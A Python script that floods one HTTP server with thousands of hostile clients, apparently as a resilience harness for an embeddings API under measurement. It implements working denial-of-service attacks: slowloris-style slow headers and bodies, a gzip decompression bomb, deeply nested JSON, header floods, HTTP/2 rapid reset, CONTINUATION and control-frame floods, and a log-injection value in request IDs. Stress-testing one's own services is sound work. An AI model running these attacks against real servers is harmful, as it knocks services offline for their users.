"""Clients that mean harm, all at once, against one server: `hostile.py HOST PORT` goes on until its input ends, and says what it did so
far for each line of it.

A process of its own, since none of this is to slow down whoever measures beside it.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
import os
import socket
import struct
import sys
import zlib
from collections import Counter

DONE: Counter[str] = Counter()
# How many clients, and seconds between two moves of one.
IDLE, SLOW, DEAF = 2000, 200, 20
PAUSE = 1.0

HEAD = "POST /v1/embeddings HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
WINDOW_SIZE = 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def hpack(method: int, path: str) -> bytes:
    """A head in HPACK: indexed method and scheme, the rest as it is."""
    text = path.encode()
    return bytes([method, 0x86, 0x04, len(text)]) + text + b"\x01\x01a\x0f\x10\x10application/json"


# More of a head: a header of 256 bytes, after which the head goes on.
MORE_HEAD = frame(CONTINUATION, 0, 1, b"\x00\x01a\x7f\x80\x7f" + b"b" * 255)
CANCEL = struct.pack(">I", 8)
POST, GET = hpack(0x83, "/v1/embeddings"), hpack(0x82, "/openapi.yaml")


class Server:
    def __init__(self, host: str, port: int) -> None:
        self.host, self.port = host, port

    @contextlib.asynccontextmanager
    async def connected(self, **options):
        """A connection, closed as rudely as can be."""
        reader, writer = await asyncio.open_connection(self.host, self.port, **options)
        try:
            yield reader, writer
        finally:
            writer.transport.abort()

    async def ask(self, what: str, *parts: bytes) -> None:
        """Sends something once, and looks at the answer's status."""
        async with self.connected() as (reader, writer):
            sent = asyncio.create_task(send(writer, parts))
            try:
                status = (await asyncio.wait_for(reader.readline(), 30))[9:12].decode() or "closed"
            finally:
                sent.cancel()
            DONE[f"{what}: {status}"] += 1


async def send(writer: asyncio.StreamWriter, parts) -> None:
    with contextlib.suppress(OSError):
        for part in parts:
            writer.write(part)
            await writer.drain()


def request(body: bytes, *headers: str) -> bytes:
    lines = "".join(f"{line}\r\n" for line in headers)
    return f"{HEAD}{lines}content-length: {len(body)}\r\n\r\n".encode() + body


async def idle(server: Server) -> None:
    """Has nothing to say."""
    async with server.connected() as (reader, _):
        await reader.read()
    DONE["idle: closed"] += 1


async def slow_head(server: Server) -> None:
    async with server.connected() as (_, writer):
        writer.write(HEAD.encode())
        for byte in itertools.cycle(b"a: b\r\n"):
            writer.write(bytes([byte]))
            await writer.drain()
            DONE["slow head: bytes"] += 1
            await asyncio.sleep(PAUSE)


async def slow_body(server: Server) -> None:
    async with server.connected() as (_, writer):
        writer.write(f"{HEAD}content-length: 1000000\r\n\r\n".encode())
        while True:
            writer.write(b" ")
            await writer.drain()
            DONE["slow body: bytes"] += 1
            await asyncio.sleep(PAUSE)


async def nested(server: Server) -> None:
    """100 MB of brackets, of which the server takes what a body may have; and as many as it takes."""
    block = b"[" * (1 << 20)
    for blocks, field in ((100, "input"), (30, "input"), (30, "more")):
        start = f'{{"model": "minilm", "{field}": '.encode()
        head = f"{HEAD}content-length: {len(start) + blocks * len(block)}\r\n\r\n".encode()
        await server.ask("nested", head + start, *[block] * blocks)
        await asyncio.sleep(PAUSE)


async def bomb(server: Server) -> None:
    """100 MB in 100 KB."""
    packer = zlib.compressobj(9, wbits=31)
    body = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(100)) + packer.flush()
    while True:
        await server.ask("bomb", request(body, "content-encoding: gzip"))
        await asyncio.sleep(PAUSE)


async def heads(server: Server) -> None:
    """Heads that do not end, in bytes and in lines."""
    for lines in (["a: " + "b" * 1_000_000], [f"a{index}: b" for index in range(10_000)], ["cookie: a=b"] * 10_000):
        await server.ask("head", request(b"", *lines))
        await asyncio.sleep(PAUSE)


async def bogus(server: Server) -> None:
    """Names that are not there, 10,000 of them: of models, users, keys, paths, methods, requests."""
    for first in range(0, 10_000, 100):
        asked = []
        for number in range(first, first + 100):
            body = json.dumps({"model": f"model-{number}", "input": "a", "user": f"user-{number}"}).encode()
            own = (f"authorization: Bearer key-{number}-0123456789", f"x-request-id: {number}\"status=500")
            asked.append(request(body, *own, *["connection: close"] * (number == first + 99)))
        async with server.connected() as (reader, writer):
            await send(writer, asked)
            DONE["bogus model: 404"] += (await asyncio.wait_for(reader.read(), 30)).count(b"HTTP/1.1 404")
        lines = {"bogus path": f"METHOD{first} /path/{first}", "bogus admin": f"GET /admin/v1/models/model-{first}"}
        for what, line in lines.items():
            await server.ask(what, f"{line} HTTP/1.1\r\nhost: a\r\nconnection: close\r\n\r\n".encode())
        await asyncio.sleep(0.05)
    huge = json.dumps({"model": "m" * 1_000_000, "input": "a"}).encode()
    await server.ask("huge model", request(huge, "connection: close"))


async def http2(server: Server, what: str, start: bytes, moves, **options) -> None:
    """Floods one HTTP/2 connection until the server has enough of it, and comes again."""
    async with server.connected(**options) as (reader, writer):
        writer.write(PREFACE + start)
        told = asyncio.create_task(reader.read())
        with contextlib.suppress(OSError):
            for move in moves:
                writer.write(move)
                await writer.drain()
                DONE[f"{what}: moves"] += 1
                if told.done():
                    break
                await asyncio.sleep(0.01)
        told.cancel()
    DONE[f"{what}: connections"] += 1


def streams(of: int, make):
    """Moves of `of` streams each, for as long as there are numbers."""
    for first in range(1, 2_000_000, 2 * of):
        yield b"".join(make(number) for number in range(first, first + 2 * of, 2))


def cancelled(number: int) -> bytes:
    """A stream that is given up as soon as it is opened."""
    return frame(HEADERS, END_HEADERS, number, POST) + frame(RESET, 0, number, CANCEL)


async def rapid_reset(server: Server) -> None:
    await http2(server, "rapid reset", frame(SETTINGS, 0, 0), streams(100, cancelled))


async def many_streams(server: Server) -> None:
    await http2(server, "many streams", frame(SETTINGS, 0, 0), streams(100, lambda number: frame(HEADERS, END_HEADERS, number, POST)))


async def endless_head(server: Server) -> None:
    start = frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, POST)
    await http2(server, "endless head", start, itertools.repeat(MORE_HEAD * 10))


async def control(server: Server) -> None:
    """Frames that cost their sender nothing and ask for an answer, or are empty."""
    start = frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, POST)
    piece = (frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0) + frame(DATA, 0, 1)) * 50
    await http2(server, "control frames", start, itertools.repeat(piece, 1000))


async def deaf(server: Server) -> None:
    """Asks for much, and takes nothing of it."""
    asked = b"GET /openapi.yaml HTTP/1.1\r\nhost: a\r\n\r\n" * 100
    with socket.socket() as small:
        small.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        small.setblocking(False)
        await asyncio.get_running_loop().sock_connect(small, (server.host, server.port))
        while True:
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(asyncio.get_running_loop().sock_sendall(small, asked), PAUSE)
            DONE["deaf: moves"] += 1
            await asyncio.sleep(PAUSE)


async def deaf_http2(server: Server) -> None:
    """The same with a window of nothing."""
    start = frame(SETTINGS, 0, 0, struct.pack(">HI", WINDOW_SIZE, 0))

    def moves():
        yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, number, GET) for number in range(1, 200, 2))
        while True:
            yield frame(PING, 0, 0, b"12345678")

    await http2(server, "deaf by HTTP/2", start, moves())


async def again(attack, server: Server) -> None:
    """For ever: whoever is thrown out comes back."""
    while True:
        with contextlib.suppress(OSError, asyncio.TimeoutError, asyncio.IncompleteReadError):
            await attack(server)
        await asyncio.sleep(PAUSE)


async def attack(host: str, port: int) -> None:
    server = Server(host, port)
    crowds = {idle: IDLE, slow_head: SLOW, slow_body: SLOW, deaf: DEAF, deaf_http2: DEAF, nested: 1, bomb: 1, heads: 1, bogus: 1,
              rapid_reset: 1, many_streams: 1, endless_head: 1, control: 1}  # fmt: skip
    # Kept: the loop itself holds tasks weakly.
    crowd = [asyncio.create_task(again(one, server)) for one, count in crowds.items() for _ in range(count)]
    DONE["clients"] = len(crowd)
    while await asyncio.get_running_loop().run_in_executor(None, sys.stdin.readline):
        print(json.dumps(DONE), flush=True)
    # Nobody says goodbye, and none of thousands can hold the others up.
    os._exit(0)


if __name__ == "__main__":
    # An attacker has a machine of its own: here it must not win the processor from those who are measured.
    os.nice(19)
    asyncio.run(attack(sys.argv[1], int(sys.argv[2])))
